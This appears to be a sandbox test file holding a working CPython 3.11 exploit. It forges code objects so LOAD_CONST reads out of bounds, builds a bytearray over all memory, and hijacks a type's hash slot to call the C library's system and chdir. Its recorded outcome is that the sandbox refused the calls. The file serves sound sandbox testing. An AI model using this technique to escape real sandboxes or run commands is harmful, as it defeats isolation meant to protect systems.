# attack: reach native code through a forged code object, without ctypes, and run a shell with it
# outcome: error native calls were refused: chdir, system
# outcome: error not available in the Lockhouse sandbox: processes cannot be started
# control: outside

# LOAD_CONST does not check its index. One outside of the constants loads a pointer from memory that the program filled: to a
# bytearray that begins at address 0 and has no end. Through that the program reads the interpreter's own tables, gives an object
# a type whose hash is a function of the C library, and calls it.
import opcode
import os
import sys
import types

LOAD_CONST, EXTENDED_ARG, RETURN_VALUE = (opcode.opmap[name] for name in ("LOAD_CONST", "EXTENDED_ARG", "RETURN_VALUE"))
LARGE = (1 << 63) - 1
HASH_OFFSET, TYPE_BYTES = 120, 416
kept = []  # What forged objects lie in.


def words(*numbers):
    return b"".join((number & (1 << 64) - 1).to_bytes(8, "little") for number in numbers)


def out_of_bounds(address):
    """What a cell of memory points to, as an object: a constant of a function whose constants lie elsewhere."""
    constants = tuple([None, len(kept)])
    index = (address - (id(constants) + 24)) // 8
    if not -(1 << 31) <= index < 1 << 31:
        return None
    high, middle, low, last = (index & 0xFFFFFFFF).to_bytes(4, "big")
    code = bytes([EXTENDED_ARG, high, EXTENDED_ARG, middle, EXTENDED_ARG, low, LOAD_CONST, last, RETURN_VALUE, 0])
    function = types.FunctionType(out_of_bounds.__code__.replace(
        co_code=code, co_consts=constants, co_stacksize=1, co_argcount=0, co_nlocals=0, co_varnames=(),
        co_exceptiontable=b"", co_flags=3), {})
    kept.append((constants, function))
    return function()


def all_memory():
    """A bytearray over the whole address space."""
    fake = words(1 << 30, id(bytearray), LARGE, LARGE, 0, 0, 0)
    for size in (8, 200, 400, 20_000):
        cell = bytes(size // 8 * 8)
        body = bytes(fake)
        start = id(body) + 32
        cell = words(start) + cell
        kept.append((cell, body))
        memory = out_of_bounds(id(cell) + 32)
        if memory is not None:
            return memory
    raise OSError("constants and memory are too far apart")


def native_calls():
    memory = all_memory()

    def read(address, size=8):
        return int.from_bytes(memory[address : address + size], "little")

    def write(address, number):
        memory[address : address + 8] = words(number)

    def text(address):
        return bytes(memory[address : address + 64]).partition(b"\0")[0].decode("latin-1")

    # The file that the interpreter's code comes from, by its beginning, and what it imports.
    base = read(read(id(len) + 16) + 8) & ~4095
    while memory[base : base + 4] != b"\x7fELF":
        base -= 4096
    bias = base if read(base + 16, 2) == 3 else 0
    headers = [base + read(base + 32) + 56 * number for number in range(read(base + 56, 2))]
    place = next(bias + read(header + 16) for header in headers if read(header, 4) == 2)
    tags = {}
    while tag := read(place):
        tags[tag] = read(place + 8)
        place += 16
    of = lambda tag: tags[tag] if tags[tag] >= bias else tags[tag] + bias
    imported = {}
    for table, size in ((23, 2), (7, 8)):
        for row in range(of(table), of(table) + tags.get(size, 0), 24) if table in tags else ():
            symbol = of(6) + 24 * (read(row + 8) >> 32)
            imported[text(of(5) + read(symbol, 4))] = bias + read(row)

    def call(name, path):
        """An imported function of a short text. The text lies where the object's count of references does."""
        table = bytearray(memory[id(object) : id(object) + TYPE_BYTES])
        table[HASH_OFFSET : HASH_OFFSET + 8] = words(read(imported[name]))
        table = bytes(table)
        victim = object()
        place = id(victim)
        count = read(place)
        more = sys.getrefcount(victim) - count
        write(place + 8, id(table) + 32)
        write(place, int.from_bytes(path, "little") - more)
        try:
            return hash(victim)
        except SystemError:
            return -1  # hash() raises an error.
        finally:
            write(place, count)
            write(place + 8, id(object))

    return call


# Another version lays out its objects otherwise: there the same is tried without native code.
if sys.version_info[:2] == (3, 11):
    call = native_calls()
    refused = [name for name, path in (("chdir", b"/etc"), ("system", b"true")) if call(name, path) != 0]
    if refused:
        raise OSError(f"native calls were refused: {', '.join(refused)}")
else:
    os.system("true")
